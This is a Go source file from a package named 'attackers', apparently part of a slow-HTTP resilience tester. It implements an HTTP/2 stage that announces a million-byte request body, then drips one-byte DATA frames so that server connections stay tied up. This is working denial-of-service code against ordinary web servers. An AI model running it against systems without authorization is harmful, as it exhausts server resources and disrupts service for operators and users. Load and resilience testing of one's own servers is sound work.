package attackers

import (
	"errors"
	"fmt"
	"io"
	"strconv"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2DataByte is a DATA frame with one byte, RFC 9113 section 6.1.
const h2DataByte = "\x00\x00\x01\x00\x00\x00\x00\x00\x01a"

// h2Body parks a connection inside the body of a request, on a stream.
//
// Leans on: RFC 9113 section 8.1; client_body_timeout, RequestReadTimeout body=.
// Sends: the whole head with a content-length of 1,000,000 and ten bytes of the
// body. Waits for: the server's SETTINGS, which are acknowledged. A final answer
// before the body is complete shows that the target cannot have this stage.
// Trickle: DATA frames of one byte each, as many as the server's window allows.
//
// The hold is the stream: a RST_STREAM on it, or a final status, is the release,
// and the connection may stay.
func h2Body() stage {
	return stage{
		StageInfo: StageInfo{
			Name:         "h2.body",
			NeedsTLS:     true,
			NeedsHTTP:    true,
			Modes:        bothModes,
			Rule:         "RFC 9113 section 8.1",
			Sends:        "the whole head and ten bytes of a body of 1,000,000",
			WaitsFor:     "the server's SETTINGS, which are acknowledged",
			Trickles:     "DATA frames of one byte, up to the window that the server gives a stream at first",
			TrickleBytes: h2Window - len(bodyBegin),
		},
		reach: reachH2Body,
	}
}

func reachH2Body(c *client) error {
	if err := c.speakH2(); err != nil {
		return err
	}
	if err := c.greetAndAcknowledge(); err != nil {
		return err
	}
	c.step = "send the head and the beginning of the body"
	room := int(c.h2.window) - len(bodyBegin)
	if room < 0 {
		return notApplicable{fmt.Sprintf("the server's SETTINGS let a request send %d bytes, and the stage needs %d", c.h2.window, len(bodyBegin))}
	}
	c.drip = dripData(c.rw(), room)
	c.h2.opened = true
	path := c.hold.Request.Body
	if path == "" {
		path = c.hold.Request.Path
	}
	block := c.hold.Request.h2Block("POST", path, c.hold.Address,
		hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(bodyLength)},
		hpack.HeaderField{Name: "content-type", Value: "application/x-www-form-urlencoded"})
	return errors.Join(
		c.h2.WriteHeaders(http2.HeadersFrameParam{StreamID: h2Stream, BlockFragment: block, EndHeaders: true}),
		c.h2.WriteData(h2Stream, false, []byte(bodyBegin)),
		c.h2.flush())
}

// dripData trickles a body of that many bytes, each in a frame of its own.
func dripData(w io.Writer, count int) drip {
	return func() error {
		if count == 0 {
			return errDripEnd
		}
		count--
		_, err := io.WriteString(w, h2DataByte)
		return err
	}
}
